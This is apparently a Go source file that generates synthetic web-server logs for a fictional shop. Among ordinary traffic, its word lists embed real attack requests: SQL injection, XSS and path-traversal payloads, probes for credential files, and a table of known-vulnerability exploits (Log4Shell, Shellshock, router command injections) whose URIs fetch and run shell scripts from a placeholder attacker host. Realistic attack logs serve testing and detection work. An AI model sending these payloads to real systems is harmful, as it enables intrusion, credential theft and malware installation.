package loggen

import "strings"

// httpSite is the site the HTTP log is of: a shop with a WordPress blog,
// a JSON API and a customer log-in, served over HTTPS (HTTP/2) and port 80.
const httpSite = "https://shop.example.com"

// httpData holds the word lists an HTTP run draws from. Like names, they
// are built per run from constant text so that the package keeps no
// mutable state. Every list is written here for loggen: the paths are
// what such clients really ask for, not copied from any rule pack.
type httpData struct {
	desktopUA, iosUA, androidUA []string
	externalRef                 []string
	adjectives, nouns           []string // product slugs: adjective-noun
	categories, posts, statics  []string
	searches                    []string // natural queries, some with SQL or HTML words in them
	oldPages                    []string // pages that are gone (crawlers still ask)
	monitorUA, apiUA, apiUsers  []string
	previewUA                   []string // link previews from phones and chat services; feed readers

	scanWords, scanExt     []string
	sensitive              []string
	webshellDirs, webshell []string
	admin                  []string
	traversal              []string
	sqliBase, sqli         []string
	xssBase, xss           []string
	proxy                  []string
	slowWords              []string
	scannerUA, botUA       []string
	stuffUA                []string
	tomcatUsers            []string
	cve                    []cveProbe
}

// cveProbe is one request of an exploit for a known vulnerability. "{ip}"
// in URI or UA stands for the attacker's download server.
type cveProbe struct {
	method, uri string
	status      int
	ua          string // empty: the campaign's
}

const (
	desktopUAText = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36 Edg/142.0.0.0|" +
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0|" +
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:145.0) Gecko/20100101 Firefox/145.0|" +
		"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0|" +
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Safari/605.1.15|" +
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15|" +
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 OPR/124.0.0.0"
	iosUAText = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1|" +
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1|" +
		"Mozilla/5.0 (iPad; CPU OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.1 Mobile/15E148 Safari/604.1|" +
		"Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/142.0.7444.77 Mobile/15E148 Safari/604.1"
	androidUAText = "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36|" +
		"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36|" +
		"Mozilla/5.0 (Android 15; Mobile; rv:145.0) Gecko/145.0 Firefox/145.0|" +
		"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36"
	externalRefText = "https://www.google.com/|https://www.google.com/|https://www.google.com/|https://www.google.de/|" +
		"https://www.bing.com/|https://duckduckgo.com/|https://search.brave.com/|https://t.co/|" +
		"https://l.facebook.com/|https://www.instagram.com/|https://www.reddit.com/|https://news.ycombinator.com/|" +
		"android-app://com.google.android.googlequicksearchbox/|https://www.pinterest.com/|https://www.linkedin.com/"
	adjectiveText = "merino|alpine|trail|classic|organic|waxed|quilted|insulated|recycled|linen|" +
		"canvas|leather|packable|waterproof|lightweight|heritage|fleece|ripstop|cotton|wool|" +
		"thermal|vintage|everyday|summit"
	nounText = "beanie|parka|backpack|hoodie|jacket|gloves|scarf|boots|socks|duffel|" +
		"tote|vest|shirt|trousers|shorts|cap|poncho|sweater|blanket|mug|" +
		"bottle|tent|hammock|lantern|apron"
	categoryText = "jackets|knitwear|bags|footwear|accessories|camping|home|kids|sale|new-arrivals|gift-ideas|outlet|bestsellers|rainwear|base-layers"
	postText     = "how-to-wax-a-cotton-jacket|choosing-a-sleeping-bag|our-merino-supply-chain|packing-list-for-a-week-in-the-alps|" +
		"caring-for-leather-boots|why-we-stopped-using-pfas|meet-the-makers-lisbon|five-day-hikes-near-the-city|" +
		"how-to-select-the-right-size|layering-explained|repair-dont-replace|the-union-station-pop-up-store|" +
		"winter-camping-for-beginners|a-script-for-your-first-climb|spring-collection-preview|how-we-test-waterproofing|" +
		"gift-guide-for-hikers|drop-in-workshops-this-month|our-2025-impact-report|what-is-ripstop"
	staticText = "/about|/contact|/faq|/shipping|/returns|/privacy|/terms|/stores|/gift-cards|/careers|/sustainability|/size-guide"
	searchText = "union+station|select+comfort+backpack|rain+jacket|merino+socks|drop+shipping|javascript+disabled|" +
		"script+font+mug|o%27neill+jacket|insert+for+boots|waterproof+boots+women|kids+parka|delete+account|" +
		"order+status|gift+card|black+%26+white+scarf|1%27+wide+strap|update+address|table+cloth|where+is+my+order|" +
		"trail+shoes+size+44|alert+whistle|drop+bag|sleep+%26+camp|tent+4+person|%C3%BCberjacke"
	oldPageText = "/blog/2019/black-friday-deals|/blog/2018/new-store-opening|/p/12044.html|/p/10931.html|/catalog/item.php?id=331|" +
		"/catalog/item.php?id=1178|/collections/summer-2021|/blog/2020/autumn-lookbook|/products/classic-raincoat-old|" +
		"/en/shop/jackets|/shop/index.php?cat=4|/pages/store-locator|/blog/tag/covid-update|/products/alpine-poncho-2019|" +
		"/media/catalogue-2020.pdf|/blog/2017/our-story"
	monitorUAText = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)|" +
		"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)|curl/8.5.0|Go-http-client/1.1|" +
		"Blackbox Exporter/0.25.0|Mozilla/5.0 (compatible; StatusCake)|Better Stack Better Uptime Bot Mozilla/5.0 (compatible)"
	apiUAText = "okhttp/4.12.0|python-requests/2.32.3|Go-http-client/2.0|axios/1.7.9|" +
		"ShopApp/5.12.0 (iPhone; iOS 18.6; Scale/3.00)|ShopApp/5.12.0 (Android 15; Pixel 8)|" +
		"Java-http-client/21.0.5|node-fetch/1.0 (+https://github.com/bitinn/node-fetch)|Zapier|PostmanRuntime/7.43.0"
	apiUserText   = "erp-sync|warehouse|acme-fulfilment|bi-export|pos-gateway"
	previewUAText = "WhatsApp/2.2449.7 A|WhatsApp/2.25.21.77 i|" +
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0|" +
		"Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)|Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)|" +
		"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 4 subscribers; like FeedFetcher-Google)|" +
		"Mozilla/5.0 (compatible; Inoreader/1.0; +http://www.inoreader.com/feed-fetcher; 2 subscribers)"

	scanWordText = "admin|backup|backups|old|test|tmp|temp|db|database|sql|dump|logs|log|debug|dev|" +
		"staging|config|conf|install|setup|upgrade|console|api|graphql|swagger|swagger-ui|openapi|" +
		"actuator|server-status|server-info|status|metrics|health|info|phpinfo|readme|changelog|license|" +
		"cgi-bin|scripts|includes|inc|uploads|files|private|secret|portal|remote|owa|ecp|webmail|" +
		"roundcube|squirrelmail|zabbix|nagios|grafana|kibana|solr|jenkins|hudson|struts|axis2|druid|" +
		"nacos|telescope|horizon|elmah|trace|web|WEB-INF|META-INF|index|default|login|signin|user|" +
		"users|account|vendor|node_modules|composer|package|Dockerfile|docker|jira|confluence|gitlab|" +
		"bitbucket|sonar|nexus|artifactory|minio|xampp|dashboard|panel|cpanel|manager|system|data|" +
		"export|import|report|reports|exec|shell|cmd|run|download|upload|bin|lib|src|app|apps|core|" +
		"cms|shop|store|cart|checkout|forum|wiki|blog|mail|smtp|ftp|ssh|vpn|proxy|cache|internal"
	scanExtText   = "|/|.php|.bak|.old|.zip|.txt|.json|.xml|.asp|.aspx|.jsp|.tar.gz|.sql|~"
	sensitiveText = "/.env|/.env.local|/.env.production|/.env.bak|/.env.save|/.env.example|/api/.env|/app/.env|/backend/.env|/laravel/.env|/core/.env|/admin/.env|/docker/.env|/public/.env|" +
		"/.git/config|/.git/HEAD|/.git/index|/.git/logs/HEAD|/.gitignore|/.svn/entries|/.svn/wc.db|/.hg/hgrc|/.DS_Store|/.htaccess|/.htpasswd|" +
		"/.aws/credentials|/.aws/config|/.ssh/id_rsa|/.ssh/id_ed25519|/.bash_history|/.npmrc|/.pypirc|/.docker/config.json|/.vscode/sftp.json|/.vscode/settings.json|/.idea/dataSources.xml|" +
		"/backup.zip|/backup.tar.gz|/backup.sql|/site.zip|/www.zip|/html.zip|/public_html.zip|/shop.zip|/shop.example.com.zip|/shop.example.com.tar.gz|" +
		"/db.sql|/database.sql|/dump.sql|/data.sql|/mysql.sql|/db_backup.sql|" +
		"/wp-config.php.bak|/wp-config.php.old|/wp-config.php~|/wp-config.php.save|/wp-config.php.swp|/wp-config.bak|/wp-config.txt|/wp-config.php.orig|" +
		"/config.php.bak|/configuration.php.bak|/config.json|/config.yaml|/secrets.json|/credentials.json|/service-account.json|/firebase.json|" +
		"/docker-compose.yml|/docker-compose.override.yml|/id_rsa|/storage/logs/laravel.log|/debug.log|/wp-content/debug.log|/error.log|/access.log|" +
		"/app/etc/env.php|/sites/default/settings.php.bak|/config/database.yml|/config/master.key|/.kube/config|/terraform.tfstate"
	webshellDirText = "|/wp-content|/wp-includes|/wp-admin/css|/uploads|/images|/assets|/.well-known|/cgi-bin|/wp-content/uploads|/tmp|/wp-content/plugins"
	webshellText    = "/shell.php|/wso.php|/wso112233.php|/c99.php|/r57.php|/alfa.php|/alfa-rex.php|/marijuana.php|/cmd.php|" +
		"/x.php|/1.php|/a.php|/up.php|/upload.php|/uploader.php|/fm.php|/filemanager.php|/mini.php|/bypass.php|" +
		"/gecko.php|/about.php|/xleet.php|/xmrlpc.php|/inputs.php|/chosen.php|/sx.php|/ws.php|/lock360.php|" +
		"/radio.php|/moon.php|/simple.php|/cong.php|/byp.php|/ioxi.php|/wsoyanz.php|/b374k.php|/indoxploit.php|/leaf.php"
	adminText = "/phpmyadmin/|/phpMyAdmin/|/phpmyadmin/index.php|/pma/|/PMA/|/myadmin/|/mysqladmin/|/dbadmin/|/sqladmin/|" +
		"/phpMyAdmin-5.2.1-all-languages/|/phpmyadmin4/|/adminer.php|/adminer/|/manager/html|/manager/status|/host-manager/html|" +
		"/administrator/|/admin/login|/admin/index.php|/cpanel|/whm|/webmin/|/solr/admin/|/jenkins/login|" +
		"/console/login/LoginForm.jsp|/jmx-console/|/web-console/|/axis2/axis2-admin/|/druid/login.html|/rabbitmq/|/pgadmin4/|" +
		"/mongo-express/|/redis-commander/|/portainer/|/kibana/app/home|/grafana/login|/_admin/|/typo3/|/bitrix/admin/|/netdata/|" +
		"/phpPgAdmin/|/plesk/|/directadmin/|/siteadmin/|/admin.php|/admin/config.php|/haproxy?stats|/nginx_status"
	traversalText = "/../../../../etc/passwd|/..%2f..%2f..%2f..%2fetc%2fpasswd|/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd|" +
		"/static/..%252f..%252f..%252f..%252fetc%252fpasswd|/assets/..%c0%af..%c0%af..%c0%afetc/passwd|" +
		"/download?file=../../../../etc/passwd|/index.php?page=../../../../../../etc/passwd|/?file=....//....//....//etc/passwd|" +
		"/images/?file=..%5c..%5c..%5c..%5cwindows%5cwin.ini|/..;/..;/..;/etc/passwd|/%252e%252e/%252e%252e/%252e%252e/etc/shadow|" +
		"/.%2e/.%2e/.%2e/.%2e/proc/self/environ|/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts|/view?path=/etc/passwd%00.png|" +
		"/api/v1/files?name=..%2F..%2F..%2F..%2Fetc%2Fpasswd|/?page=php://filter/convert.base64-encode/resource=index|" +
		"/index.php?lang=../../../../../../../../windows/win.ini|/file?path=%2Fetc%2Fpasswd|/..%5c..%5c..%5c..%5cboot.ini|" +
		"/?template=../../../../../../proc/self/cmdline"
	sqliBaseText = "/products?id=|/search?q=|/product.php?id=|/index.php?id=|/category?cat=|/api/v1/products?sort=|/news.php?item=|/blog/?p="
	sqliText     = "1%27|1%22|1%27%20OR%20%271%27%3D%271|1%20AND%201%3D1|1%20AND%201%3D2|1%27%20AND%20SLEEP(5)--%20-|" +
		"1%29%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-|1%27%20UNION%20SELECT%201%2C2%2C3%2Cgroup_concat(table_name)%20FROM%20information_schema.tables--%20-|" +
		"-1%20OR%203%2B%27%27-%27%27-1%3D0%2B0%2B0%2B1|1%3BSELECT%20PG_SLEEP(5)--|1%27%20WAITFOR%20DELAY%20%270%3A0%3A5%27--|" +
		"(SELECT%20CHAR(113)%7C%7CCHAR(106)%7C%7CCHAR(122))|1%20AND%20EXTRACTVALUE(1%2CCONCAT(0x5c%2C0x71626a7a71))|" +
		"1%27%20AND%201%3DCONVERT(int%2C%40%40version)--|if(now()%3Dsysdate()%2Csleep(15)%2C0)|1'|1'%20or%20'1'='1|" +
		"1%20ORDER%20BY%2010--|1%27%20ORDER%20BY%203--%20-|1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users|" +
		"1'%22|1%25%27|0x31303235343830303536|1%20RLIKE%20(SELECT%20(CASE%20WHEN%20(1%3D1)%20THEN%201%20ELSE%200x28%20END))|" +
		"1%27%3B%20DROP%20TABLE%20users--|%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20"
	xssBaseText = "/search?q=|/?s=|/contact?name=|/login?redirect=|/api/v1/products?callback=|/?lang=|/blog/?search=|/error?msg="
	xssText     = "%3Cscript%3Ealert(1)%3C%2Fscript%3E|%22%3E%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E|%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E|" +
		"%3Csvg%2Fonload%3Dalert(1)%3E|javascript%3Aalert(1)|%27%3Balert(String.fromCharCode(88%2C83%2C83))%2F%2F|<script>alert(1)</script>|" +
		"\\x22><svg/onload=confirm(1)>|%3Cbody%20onload%3Dalert(%27XSS%27)%3E|%3Ciframe%20src%3D%22javascript%3Aalert(1)%22%3E|" +
		"%7B%7B7*7%7D%7D|${7*7}|%3CsCrIpT%3Ealert(1)%3C%2FsCrIpT%3E|%22onmouseover%3D%22alert(1)|%3Cdetails%20open%20ontoggle%3Dalert(1)%3E|" +
		"<img/src/onerror=prompt(8)>|%3Ca%20href%3D%22javascript%3Aalert(1)%22%3Eclick%3C%2Fa%3E|%3Cscript%20src%3D%2F%2F{ip}%2Fx.js%3E%3C%2Fscript%3E"
	proxyText = "CONNECT www.google.com:443|CONNECT api.ipify.org:443|GET http://www.baidu.com/|GET http://httpbin.org/ip|" +
		"GET http://azenv.net/|CONNECT check.proxyradar.com:443|GET http://ip-api.com/json|GET http://proxyjudge.info/|" +
		"CONNECT www.wikipedia.org:443|GET http://www.msftconnecttest.com/connecttest.txt|HEAD http://example.org/|CONNECT smtp.gmail.com:587"
	slowWordText = "archive|archives|old-site|new|beta|demo|v1|v2|site|web|www|home|main|intranet|extranet|members|" +
		"partners|clients|customers|media|content|resources|downloads|documents|docs|pdf|stats|analytics|" +
		"marketing|promo|events|press|jobs|support|help|kb|community|catalog|gallery|photos|video|mobile|m|" +
		"en|de|fr|us|uk|2019|2020|2021|2022|2023|2024|new-site|test2|preview|launch|landing|offers|deals|" +
		"outlet-old|newsletter|print|rss|feeds|sitemap|map|search2|legacy|classic|staff"
	scannerUAText = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)|Mozilla/5.0 zgrab/0.x|gobuster/3.6|" +
		"Fuzz Faster U Fool v2.1.0-dev|Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)|" +
		"WPScan v3.8.27 (https://wpscan.com/wordpress-security-scanner)|Mozilla/5.0 (l9scan/2.0.3334e2336323e2534313e2; +https://leakix.net)|" +
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/115.0.0.0 Safari/537.36|" +
		"DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)|feroxbuster/2.11.0|" +
		"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36"
	botUAText = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:109.0) Gecko/20100101 Firefox/115.0|" +
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/108.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/102.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (Windows NT 6.1; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/79.0.3945.88 Safari/537.36|" +
		"python-requests/2.31.0|curl/7.88.1|Go-http-client/1.1|-|Python-urllib/3.10|Mozilla/5.0|" +
		"Mozilla/5.0 (iPhone; CPU iPhone OS 13_2_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/13.0.3 Mobile/15E148 Safari/604.1"
	stuffUAText = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36|" +
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15|" +
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0|" +
		"Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36|" +
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
	tomcatUserText = "admin|tomcat|manager|root|role1|both|admin"
)

// cveText lists exploit requests, one a line: METHOD|URI|STATUS|UA (UA may
// be empty). URIs are as nginx logs them: a backslash is \x5C.
const cveText = `GET|/?x=${jndi:ldap://{ip}:1389/Exploit}|200|
GET|/|200|${jndi:ldap://{ip}:1389/Basic/Command/Base64/d2dldCBodHRwOi8ve2lwfS9sNGoK}
GET|/api/v1/products?q=${jndi:${lower:l}${lower:d}ap://{ip}:1389/a}|200|
POST|/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|404|
POST|/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php|404|
POST|/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|404|
GET|/index.php?s=/Index/\x5Cthink\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21|404|
GET|/public/index.php?s=/index/\x5Cthink\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=wget+http://{ip}/t.sh|404|
POST|/_ignition/execute-solution|405|
GET|/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd|400|
POST|/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/.%2e/bin/sh|400|
GET|/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd|400|
POST|/GponForm/diag_Form?images/|404|
GET|/vpn/../vpns/cfg/smb.conf|404|
GET|/oauth/idp/.well-known/openid-configuration|404|
GET|/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession|404|
PUT|/api/v2/cmdb/system/admin/admin|404|Report Runner
GET|/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd|404|
POST|/mgmt/tm/util/bash|404|
GET|/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/|404|
POST|/actuator/gateway/routes/hacktest|404|
GET|/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F{ip}%2Ftp.sh+-O-%7Csh%60)|404|
PUT|/SDK/webLanguage|404|
POST|/HNAP1/|404|
GET|/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://{ip}:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1|404|
GET|/shell?cd+/tmp;rm+-rf+*;wget+{ip}/jaws;sh+/tmp/jaws|404|Hello, world
POST|/boaform/admin/formLogin|404|Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:71.0) Gecko/20100101 Firefox/71.0
POST|/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input|404|
POST|/ssl-vpn/hipreport.esp|404|
GET|/api/v1/totp/user-backup-code/../../system/system-information|404|
POST|/moveitisapi/moveitisapi.dll?action=m2|404|
GET|/autodiscover/autodiscover.json?@zdi/Powershell|404|
GET|/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false|404|
POST|/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax|404|
GET|/cgi-bin/bash|404|() { :; }; echo; echo; /bin/bash -c 'cat /etc/passwd'
POST|/wls-wsat/CoordinatorPortType|404|
POST|/ztp/cgi-bin/handler|404|
POST|/webtools/control/ping?USERNAME&PASSWORD=test&requirePasswordChange=Y|404|
GET|/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php|404|
GET|/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../|404|
GET|/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di|200|
POST|/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd+/tmp;wget+http://{ip}/n.sh;sh+n.sh|404|
GET|/cgi-bin/kerbynet?Section=NoAuthREQ&Action=x509List&type=*%22;cd%20%2Ftmp;curl%20-O%20http%3A%2F%2F{ip}%2Fz;sh%20z;%22|404|`

func newHTTPData() httpData {
	split := func(s string) []string { return strings.Split(s, "|") }
	d := httpData{
		desktopUA:    split(desktopUAText),
		iosUA:        split(iosUAText),
		androidUA:    split(androidUAText),
		externalRef:  split(externalRefText),
		adjectives:   split(adjectiveText),
		nouns:        split(nounText),
		categories:   split(categoryText),
		posts:        split(postText),
		statics:      split(staticText),
		searches:     split(searchText),
		oldPages:     split(oldPageText),
		monitorUA:    split(monitorUAText),
		apiUA:        split(apiUAText),
		apiUsers:     split(apiUserText),
		previewUA:    split(previewUAText),
		scanWords:    split(scanWordText),
		scanExt:      split(scanExtText),
		sensitive:    split(sensitiveText),
		webshellDirs: split(webshellDirText),
		webshell:     split(webshellText),
		admin:        split(adminText),
		traversal:    split(traversalText),
		sqliBase:     split(sqliBaseText),
		sqli:         split(sqliText),
		xssBase:      split(xssBaseText),
		xss:          split(xssText),
		proxy:        split(proxyText),
		slowWords:    split(slowWordText),
		scannerUA:    split(scannerUAText),
		botUA:        split(botUAText),
		stuffUA:      split(stuffUAText),
		tomcatUsers:  split(tomcatUserText),
	}
	for _, l := range strings.Split(cveText, "\n") {
		f := strings.SplitN(l, "|", 4)
		status := 0
		for _, c := range f[2] {
			status = status*10 + int(c-'0')
		}
		d.cve = append(d.cve, cveProbe{method: f[0], uri: f[1], status: status, ua: f[3]})
	}
	return d
}
